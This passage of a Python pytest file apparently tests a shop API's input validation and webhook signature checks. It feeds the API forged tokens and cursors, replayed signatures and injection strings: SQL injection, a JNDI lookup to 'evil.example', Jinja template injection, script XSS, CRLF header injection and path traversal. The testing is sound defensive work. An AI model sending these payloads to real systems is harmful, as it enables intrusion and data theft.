            ("admin key with NUL", f"Bearer {ADMIN_KEY}\x00", 403),
            ("admin key with CRLF", f"Bearer {ADMIN_KEY}\r\nX-Admin: 1", 403),
        ):
            headers = without if header is None else {**without, "Authorization": header}
            yield case(what, headers=headers, statuses=(status,))
    if {"order_token", "cart_token"} & set(op.auth):
        token = spec.headers["Authorization"]
        assert isinstance(token, W)
        for what, header in (
            ("no token", None),
            ("empty bearer", "Bearer "),
            ("forged token", "Bearer " + "A" * 43),
            ("token as Basic", W(token.key, "Basic {}")),
            ("token with NUL", W(token.key, "Bearer {}\x00")),
            ("token truncated", Truncated(token.key)),
            ("admin key as token", f"Bearer {ADMIN_KEY}"),
        ):
            headers = without if header is None else {**without, "Authorization": header}
            yield case(what, headers=headers, statuses=(401, 404))
        for param, theirs in spec.foreign.items():
            yield case(
                "another customer's resource with this customer's token",
                path_values={**spec.path, param: theirs},
                statuses=(404,),
            )


@dataclass(frozen=True)
class Truncated:
    """A world token without its last character, as a bearer header."""

    key: str


def shipping_options_cases(case: Callable[..., Case]) -> Iterator[Case]:
    for what, query in {
        "nothing": "",
        "no country": "lines=tea:1",
        "no lines": "country=DE",
        "lower-case country": "country=de&lines=tea:1",
        "country injection": "country=" + quote("DE' OR 1=1--", safe="") + "&lines=tea:1",
        "country NUL": "country=DE%00&lines=tea:1",
        "repeated country": "country=DE&country=AT&lines=tea:1",
        "lines and cart": "country=DE&lines=tea:1&cart_id=" + "0" * 36,
        "cart without its token": "country=DE&cart_id={cart_a}",
        "unknown product": "country=DE&lines=nope:1",
        "quantity 0": "country=DE&lines=tea:0",
        "quantity over the maximum": "country=DE&lines=tea:9999",
        "a SKU twice": "country=DE&lines=tea:1,tea:2",
        "lines injection": "country=DE&lines=" + quote("tea:1;DROP", safe=""),
        "lines NUL": "country=DE&lines=tea:1%00",
        "lines overlong": "country=DE&lines=" + ",".join(f"s{i}:1" for i in range(60)),
        "unknown parameter": "country=DE&lines=tea:1&coupon=FREE",
        "unknown locale": "country=DE&lines=tea:1&locale=fr",
    }.items():
        yield case(f"query {what}", query=query)


def query_cases(case: Callable[..., Case]) -> Iterator[Case]:
    for what, query in {
        "unknown status": "status=lost",
        "status with injection": "status=" + quote("paid' OR 1=1--", safe=""),
        "unknown parameter": "coupon=FREE",
        "limit 0": "limit=0",
        "negative limit": "limit=-1",
        "huge limit": "limit=" + "9" * 40,
        "limit over the maximum": "limit=101",
        "limit not a number": "limit=ten",
        "limit NaN": "limit=NaN",
        "limit 1.5": "limit=1.5",
        "repeated limit": "limit=1&limit=100",
        "repeated status": "status=paid&status=cancelled",
        "naive created_from": "created_from=2026-11-01T00:00:00",
        "created_from not a date": "created_from=yesterday",
        "number with NUL": "number=AAAA-AAA%00",
        "email with CRLF": "email=a%0D%0A@example.com",
        "forged cursor": "cursor=not-a-cursor",
        "cursor of JSON we did not issue": "cursor="
        + base64.urlsafe_b64encode(b'{"v":1,"q":"x","m":"2026-11","a":null}').decode(),
        "cursor of another filter": "status=paid&limit=1&cursor={cursor}",
        "tampered cursor": "limit=1&cursor={tampered}",
        "cursor with NUL": "limit=1&cursor={cursor}%00",
        "overlong cursor": "cursor=" + "A" * 5000,
    }.items():
        yield case(f"query {what}", query=query)


def month_query_cases(path: str, case: Callable[..., Case]) -> Iterator[Case]:
    bad = {
        "no month": ("", 422),
        "month 13": ("month=2026-13", 422),
        "month 00": ("month=2026-00", 422),
        "month as a date": ("month=2026-12-01", 422),
        "month two digits": ("month=26-12", 422),
        "month empty": ("month=", 422),
        "month injection": ("month=" + quote("2026-12' OR 1=1--", safe=""), 422),
        "month NUL": ("month=2026-12%00", 422),
        "month overlong": ("month=" + "2" * 3000, 422),
        "repeated month": ("month=2026-12&month=2026-11", 400),
        "unknown parameter": ("month=2026-12&status=paid", 422),
    }
    if path == "/admin/invoices":
        forged = '{"v":1,"m":"2026-12","a":"1#RE\' OR 1=1--"}'
        bad |= {
            "limit 0": ("month=2026-12&limit=0", 422),
            "limit over the maximum": ("month=2026-12&limit=101", 422),
            "limit not a number": ("month=2026-12&limit=ten", 422),
            "forged cursor": ("month=2026-12&cursor=not-a-cursor", 400),
            "cursor of JSON we did not issue": (
                "month=2026-12&cursor=" + base64.urlsafe_b64encode(forged.encode()).decode(),
                400,
            ),
            "the order desk's cursor": ("month=2026-12&cursor={cursor}", 400),
            "overlong cursor": ("month=2026-12&cursor=" + "A" * 5000, 422),
        }
    else:
        bad |= {
            "unknown format": ("month=2026-12&format=xlsx", 422),
            "format upper-case": ("month=2026-12&format=CSV", 422),
            "repeated format": ("month=2026-12&format=csv&format=datev", 400),
        }
    for what, (query, status) in bad.items():
        yield case(f"query {what}", query=query, statuses=(status,))


def all_cases() -> list[Case]:
    return [
        c
        for route in app_routes()
        if (route.method, route.path) in ROUTES
        for c in route_cases(route)
    ]


# --- sending a case -------------------------------------------------------------------------


def encode(body: Any, world: Mapping[str, Any]) -> bytes:
    """JSON of a body with world values filled in and raw literals in place.
    ASCII-escaped, so a lone surrogate travels as the escape ``\\ud800``."""
    raws: dict[str, str] = {}

    def walk(value: Any) -> Any:
        if isinstance(value, Raw):
            marker = f"__raw_{len(raws)}__"
            raws[marker] = value.literal
            return marker
        if isinstance(value, Spoiled):
            return value.spoil(str(walk(value.good)))
        if isinstance(value, W):
            return (
                world[value.key]
                if value.template == "{}"
                else value.template.format(world[value.key])
            )
        if isinstance(value, dict):
            return {k: walk(v) for k, v in value.items()}
        if isinstance(value, list):
            return [walk(v) for v in value]
        return value

    text = json.dumps(walk(body))
    for marker, literal in raws.items():
        text = text.replace(f'"{marker}"', literal)
    return text.encode()


def header_value(value: Any, world: Mapping[str, Any]) -> str:
    if isinstance(value, Truncated):
        return f"Bearer {world[value.key][:-1]}"
    if isinstance(value, W):
        return value.template.format(world[value.key])
    return str(value)


def tampered(cursor: str) -> str:
    # Moving a well-formed position within the same filters is not refused
    # (it shows nothing those filters do not); a position the store did not
    # produce is.
    raw = json.loads(base64.urlsafe_b64decode(cursor + "=" * (-len(cursor) % 4)))
    raw["a"] = "2026-11-01T00:00:00#' OR 1=1--"
    return base64.urlsafe_b64encode(json.dumps(raw).encode()).decode().rstrip("=")


def send(api: Api, case: Case, world: Mapping[str, Any]) -> Any:
    world = {**world, "now": int(time.time()), "idempotency_key": new_key()}
    path = case.path
    for name, value in case.path_values.items():
        resolved = world[value.key] if isinstance(value, W) else value
        path = path.replace("{" + name + "}", resolved)
    if case.query:
        path += "?" + case.query.format(
            cursor=world["cursor"], tampered=tampered(world["cursor"]), cart_a=world["cart_a"]
        )
    headers = {k: header_value(v, world) for k, v in case.headers.items()}
    if case.body is None:
        raw = b""
    elif isinstance(case.body, bytes):
        raw = case.body
    else:
        raw = encode(case.body, world)
    if case.signed == "hmac":
        headers["Shop-Signature"] = payment_signing.sign(HMAC_SECRETS[0], world["now"], raw)
    elif case.signed == "carrier":
        headers["Carrier-Signature"] = carrier_signing.sign(CARRIER_SECRET, world["now"], raw)
    return answer(api, case.method, path, headers, raw)


def answer(api: Api, method: str, path: str, headers: dict[str, str], raw: bytes) -> Any:
    """The answer a client gets. Chalice local answers authorizer refusals and
    unknown paths itself; those get the gateway responses the deployment and
    the local stack give them (chalicelib/api/gateway.py, local/stack.py)."""
    from local.stack import gateway_answer

    headers = {"Content-Type": "application/json", **headers}
    if headers["Content-Type"] == "":
        del headers["Content-Type"]
    response = api.http.request(method, path, headers=headers, body=raw)
    if "x-amzn-ErrorType" in response.headers:
        request_id = response.headers.get("x-amzn-RequestId", "gateway")
        response.status_code, response.body = gateway_answer(
            response.status_code, response.body, request_id
        )
        response.headers = {"Content-Type": "application/json", "X-Request-Id": request_id}
    response.json = json.loads(response.body) if response.body else None
    return response


def snapshot(table: str) -> list[str]:
    """Every item of the table, read from moto's backend: the same items as
    tests.conftest.table_snapshot (checked in the fixture) at a fraction of
    the cost of a Scan through the SDK, which matters over ~1,700 cases."""
    from moto.core import DEFAULT_ACCOUNT_ID
    from moto.dynamodb.models import dynamodb_backends

    region = os.environ["AWS_DEFAULT_REGION"]
    backend = dynamodb_backends[DEFAULT_ACCOUNT_ID][region]
    # The withdrawal lookup's attempt counter is the one write a refused
    # lookup makes, by design (docs/withdrawal.md): it is what the throttle counts.
    return sorted(
        json.dumps(i.to_json(), sort_keys=True)
        for i in backend.get_table(table).all_items()
        if not i.hash_key.value.startswith("ATTEMPTS#")
    )


def payment_queue_depth() -> int:
    from chalicelib import bootstrap

    sqs = boto3.client("sqs")
    name = bootstrap.get_settings().payment_events_queue_name
    url = sqs.get_queue_url(QueueName=name)["QueueUrl"]
    attributes = sqs.get_queue_attributes(
        QueueUrl=url, AttributeNames=["ApproximateNumberOfMessages"]
    )
    return int(attributes["Attributes"]["ApproximateNumberOfMessages"])


def assert_error_body(r: Any) -> None:
    assert r.headers.get("Content-Type", "").startswith("application/json"), r.headers
    error = r.json["error"]
    assert set(error) == {"code", "message", "details", "request_id"}, r.json
    assert error["request_id"] == r.headers["X-Request-Id"]
    assert isinstance(error["message"], str) and error["message"]


CASES = all_cases()


# --- the tests ----------------------------------------------------------------------------


def test_every_route_has_a_corpus_entry_for_what_it_takes():
    found = {(r.method, r.path): r for r in app_routes()}
    assert set(ROUTES) == set(found), "routes without a corpus entry, or entries without a route"
    for key, route in found.items():
        spec, op = ROUTES[key], route.operation
        assert op is not None, key
        names = {p[1:-1] for p in route.path.split("/") if p.startswith("{")}
        assert set(spec.path) == names, f"{key}: a valid value for every path parameter"
        assert (spec.body is not None) == (op.body is not None), f"{key}: a valid body"
        if {"order_token", "cart_token", "admin_key"} & set(op.auth):
            assert "Authorization" in spec.headers, f"{key}: the valid credential"
        assert spec.text <= {at for at, _ in leaves(spec.body or {})}, f"{key}: text fields exist"


def test_every_valid_corpus_body_passes_its_route_model():
    # The cases spoil one thing of a valid request: the rest must be valid, or a
    # case could pass for the wrong reason.
    for route in app_routes():
        spec = ROUTES[(route.method, route.path)]
        if spec.body is not None and route.operation and route.operation.body and not spec.signed:
            route.operation.body.model_validate_json(encode(spec.body, STAND_INS))
    from chalicelib.api.schemas import PlaceOrderIn

    PlaceOrderIn.model_validate_json(encode(PICKUP_ORDER, STAND_INS))


@pytest.mark.parametrize("case", CASES, ids=[c.id for c in CASES])
def test_bad_input_is_refused_with_the_error_body_and_changes_nothing(shop, case):
    api, table, world = shop
    before = snapshot(table)
    callback = case.path.startswith("/webhooks/payments/")
    queued = payment_queue_depth() if callback else 0
    r = send(api, case, world)
    assert r.status_code in case.statuses, (r.status_code, r.json)
    assert_error_body(r)
    if case.code:
        assert r.json["error"]["code"] == case.code, r.json
    if case.field_loc:
        assert_names_the_field(case, r.json["error"])
    assert snapshot(table) == before
    if callback:
        assert payment_queue_depth() == queued


def assert_names_the_field(case: Case, error: dict[str, Any]) -> None:
    """Refused because of this very field, not something else: by its model,
    or by the domain rule that names it (or, signed, as a malformed event)."""
    assert case.field_loc is not None
    if case.signed == "hmac":
        assert error["code"] == "malformed_event", error
    elif error["code"] == "invalid_request":
        assert case.field_loc[-1] in error["details"], error
    else:
        assert error["code"] == "validation_error", error
        locs = [tuple(f["loc"]) for f in error["details"]["fields"]]
        assert any(loc[: len(case.field_loc)] == case.field_loc for loc in locs), locs


# --- signatures: forged, for another provider, replayed -------------------------------------


@dataclass(frozen=True)
class Provider:
    path: str
    header: str
    secret: str
    #: What a refused signature answers (payments: 400, carriers: 401).
    status: int


PROVIDERS = {
    "stripe": Provider("/webhooks/payments/stripe", "Stripe-Signature", STRIPE_SECRETS[1], 400),
    "hmac": Provider("/webhooks/payments/hmac", "Shop-Signature", HMAC_SECRETS[0], 400),
    "carrier": Provider("/webhooks/carriers/dhl", "Carrier-Signature", CARRIER_SECRET, 401),
}


def event_body(provider: str, world: Mapping[str, Any], event_id: str) -> bytes:
    """A valid event of the provider's format, new each time."""
    if provider == "stripe":
        from chalicelib import bootstrap

        order = bootstrap.context().orders.get(world["order_b"]).order
        event = bootstrap.fake_stripe().pay(order)
        event["id"] = f"evt_{event_id}"
        return json.dumps(event).encode()
    if provider == "hmac":
        body = {**_hmac_event(), "id": event_id, "created": W("now")}
        return encode(body, {**world, "now": int(time.time())})
    return json.dumps(
        {
            "event_id": event_id,
            "tracking_number": "TRK-000001",
            "status": "in_transit",
            "occurred_at": "2026-11-24T09:00:00Z",
        }
    ).encode()


def sign(secret: str, body: bytes, at: float | None = None) -> str:
    return payment_signing.sign(secret, int(time.time() if at is None else at), body)


#: forgery -> (body, headers) from the valid body and the provider's header and secret
FORGERIES: dict[str, Callable[[bytes, Provider], tuple[bytes, dict[str, str]]]] = {
    "no signature": lambda b, p: (b, {}),
    "garbage header": lambda b, p: (b, {p.header: "nonsense"}),
    "empty parts": lambda b, p: (b, {p.header: "t=,v1="}),
    "superscript digit as time": lambda b, p: (
        b,
        {p.header: sign(p.secret, b).replace("t=", "t=\u00b2", 1)},
    ),
    "huge time": lambda b, p: (b, {p.header: f"t={'9' * 40},v1=" + "0" * 64}),
    "huge time, signed": lambda b, p: (
        b,
        {p.header: payment_signing.sign(p.secret, int("9" * 40), b)},
    ),
    "wrong secret": lambda b, p: (b, {p.header: sign("not-the-secret", b)}),
    "signature of another body": lambda b, p: (b + b" ", {p.header: sign(p.secret, b)}),
    "body tampered after signing": lambda b, p: (
        b[:-1] + b',"amount_paid":1}',
        {p.header: sign(p.secret, b)},
    ),
    "signed an hour ago": lambda b, p: (b, {p.header: sign(p.secret, b, time.time() - 3600)}),
    "signed just outside the window": lambda b, p: (
        b,
        {p.header: sign(p.secret, b, time.time() - 301)},
    ),
    # A minute past the window, not a second: the check runs a moment after
    # signing, and a busy machine must not carry the future back inside it.
    "signed in the future": lambda b, p: (b, {p.header: sign(p.secret, b, time.time() + 360)}),
    "v1 of another scheme": lambda b, p: (
        b,
        {p.header: sign(p.secret, b).replace("v1=", "v0=")},
    ),
}
#: provider -> the other providers' headers and secrets, each signing its body
OTHERS = {name: [o for other, o in PROVIDERS.items() if other != name] for name in PROVIDERS}


@pytest.mark.parametrize("forgery", FORGERIES)
@pytest.mark.parametrize("provider", PROVIDERS)
def test_a_forged_signature_is_refused_and_changes_nothing(shop, provider, forgery):
    api, table, world = shop
    p = PROVIDERS[provider]
    body, headers = FORGERIES[forgery](event_body(provider, world, new_key()), p)
    before, queued = snapshot(table), payment_queue_depth()
    r = answer(api, "POST", p.path, headers, body)
    assert r.status_code == p.status, r.json
    assert_error_body(r)
    assert snapshot(table) == before
    assert payment_queue_depth() == queued


@pytest.mark.parametrize("provider", PROVIDERS)
def test_a_signature_of_another_provider_is_refused(shop, provider):
    api, table, world = shop
    p = PROVIDERS[provider]
    body = event_body(provider, world, new_key())
    before = snapshot(table)
    for other in OTHERS[provider]:
        for header in (other.header, p.header):
            r = answer(api, "POST", p.path, {header: sign(other.secret, body)}, body)
            assert r.status_code == p.status, (other, header, r.json)
            assert_error_body(r)
    assert snapshot(table) == before


@pytest.mark.parametrize("provider", PROVIDERS)
def test_a_replayed_callback_is_a_2xx_no_op_and_outside_the_window_refused(shop, provider):
    api, table, world = shop
    p = PROVIDERS[provider]
    body = event_body(provider, world, new_key())
    headers = {p.header: sign(p.secret, body)}
    first = answer(api, "POST", p.path, headers, body)
    assert first.status_code == 200, first.json
    after_first, queued = snapshot(table), payment_queue_depth()

    again = answer(api, "POST", p.path, headers, body)
    assert again.status_code == 200, again.json
    assert again.json["outcome"] in ("duplicate", "ignored"), again.json
    assert snapshot(table) == after_first
    assert payment_queue_depth() == queued

    late = answer(api, "POST", p.path, {p.header: sign(p.secret, body, time.time() - 301)}, body)
    assert late.status_code == p.status, late.json
    assert_error_body(late)
    assert snapshot(table) == after_first


@pytest.mark.parametrize("provider", PROVIDERS)
def test_a_callback_is_taken_as_the_provider_sends_it_with_a_charset(shop, provider):
    # Stripe sends `application/json; charset=utf-8`; the signature covers the
    # raw bytes, which are never re-serialised.
    api, _, world = shop
    p = PROVIDERS[provider]
    body = event_body(provider, world, new_key())
    headers = {p.header: sign(p.secret, body), "Content-Type": "application/json; charset=utf-8"}
    r = answer(api, "POST", p.path, headers, body)
    assert r.status_code == 200, r.json


# --- valid but odd free text: accepted intact, or refused cleanly ----------------------------

ODD_TEXT = {
    "emoji and a ZWJ family": "Zoë \U0001f600 \U0001f469\u200d\U0001f469\u200d\U0001f467",
    "combining marks": "Zoe\u0308 Ame\u0301lie",
    "RTL override": "Erika \u202eakirE\u202c",
    "zero-width joiner": "Er\u200dika",
    "NUL": "Erika\x00M",
    "SQL": "Robert'); DROP TABLE orders;--",
    "DynamoDB expression": "#name = :v",
    "JNDI": "${jndi:ldap://evil.example/a}",
    "Jinja": "{{7*7}} {{ shop.name }}",
    "Jinja raw": "{% raw %}x{% endraw %}{% if 1 %}",
    "script": "<script>alert(1)</script>",
    "CRLF": "Erika\r\nBcc: evil@example.com",
    "traversal": "../../etc/passwd",
    "longest postal code": "\u00df" * 40,
}


#: What real names and addresses contain (O'Brien, Zoë written with a
#: combining diaeresis, emoji, long German words): never refused.
MUST_ACCEPT = {"combining marks", "emoji and a ZWJ family", "SQL", "longest postal code"}


def accepted_or_refused(r: Any, table: str, before: list[str], ok: int, what: str) -> bool:
    """True if accepted; a refusal must be a clean 4xx that changed nothing."""
    if r.status_code == ok:
        return True
    assert what not in MUST_ACCEPT, (r.status_code, r.json)
    assert 400 <= r.status_code < 500, (r.status_code, r.json)
    assert_error_body(r)
    assert snapshot(table) == before
    return False


@pytest.mark.parametrize("what", ODD_TEXT)
def test_odd_text_in_an_order_comes_back_intact_or_is_refused(shop, what):
    api, table, _ = shop
    value = ODD_TEXT[what]
    odd = {f: value for f in ("name", "company", "line1", "line2", "postal_code", "city")}
    body = order_body(
        [("tea", 1)],
        customer={"email": "odd@example.com", "name": value},
        shipping_address=address(**odd),
        billing_address=address(**odd),
    )
    before = snapshot(table)
    r = api.place(body)
    if not accepted_or_refused(r, table, before, 201, what):
        return
    view = api.call("GET", f"/orders/{r.json['id']}", None, bearer(r.json["token"])).json
    assert view["customer"]["name"] == value
    for kind in ("shipping_address", "billing_address"):
        assert {f: view[kind][f] for f in odd} == odd


def bearer(token: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {token}"}


@pytest.mark.parametrize("what", ODD_TEXT)
def test_odd_text_in_reasons_notes_names_and_references_comes_back_intact_or_is_refused(shop, what):
    api, table, _ = shop
    value = ODD_TEXT[what]

    def order(method: str = "card") -> dict[str, Any]:
        r = api.place(order_body([("tea", 1)], payment_method=method))
        assert r.status_code == 201, r.json
        return r.json

    def detail(order_id: str) -> dict[str, Any]:
        return api.admin("GET", f"/admin/orders/{order_id}").json

    placed = order()
    before = snapshot(table)
    r = api.cancel(placed, value)
    if accepted_or_refused(r, table, before, 200, what):
        assert r.json["cancel_reason"] == value

    placed = order()
    before = snapshot(table)
    r = api.admin("POST", f"/admin/orders/{placed['id']}/cancel", {"reason": value})
    if accepted_or_refused(r, table, before, 200, what):
        assert detail(placed["id"])["cancel_reason"] == value

    before = snapshot(table)
    r = api.admin("POST", f"/admin/orders/{placed['id']}/notes", {"note": value})
    if accepted_or_refused(r, table, before, 201, what):
        assert [n["note"] for n in detail(placed["id"])["notes"]] == [value]

    placed = order("bank_transfer")
    before = snapshot(table)
    r = api.admin("POST", f"/admin/orders/{placed['id']}/payments", {"bank_reference": value})
    if accepted_or_refused(r, table, before, 200, what):
        assert [p["reference"] for p in r.json["payments"]] == [value]

    sku = f"ODD-{list(ODD_TEXT).index(what)}"
    before = snapshot(table)
    product = {"name": value, "price": 100, "currency": "EUR", "tax_rate": "19"}
    r = api.admin("PUT", f"/admin/products/{sku}", product)
    if accepted_or_refused(r, table, before, 200, what):
        assert api.call("GET", f"/products/{sku}").json["name"] == value


def test_odd_names_render_literally_and_escaped_in_the_emails_and_inject_no_header(api, pipeline):
    # A line break in a name is refused (api/bodies.py ONE_LINE; see
    # test_bad_input.py); what is left to try is markup and template syntax.
    name = "<script>alert(1)</script> {{7*7}} {% raw %}x{% endraw %} Bcc: evil@example.com"
    api.add_product("tea", available=5)
    r = api.place(
        order_body([("tea", 1)], locale="en", customer={"email": "zoe@example.com", "name": name})
    )
    assert r.status_code == 201, r.json
    assert pipeline.consume(pipeline.flow()) == []
    (customer,) = [m for m in pipeline.mails() if m.to == "zoe@example.com"]
    assert "<script>" not in customer.html
    assert "&lt;script&gt;alert(1)&lt;/script&gt; {{7*7}} {% raw %}x{% endraw %}" in customer.html
    # Evaluated, {{7*7}} would read 49 where the name stands. Only the name's
    # own lines are checked: elsewhere the payment deadline's time (17:49)
    # or the order number may contain 49.
    name_lines = [line for line in customer.text.splitlines() if "alert(1)" in line]
    assert name_lines
    assert all("49" not in line.replace(r.json["number"], "") for line in name_lines)
    assert "{{7*7}} {% raw %}x{% endraw %}" in customer.text
    assert customer.headers["Bcc"] is None
    assert [k for k in customer.headers if k.lower() not in STANDARD_HEADERS] == []


STANDARD_HEADERS = {
    "from",
    "to",
    "reply-to",
    "subject",
    "date",
    "content-type",
    "content-language",
    "mime-version",
    "content-transfer-encoding",
    "message-id",
}
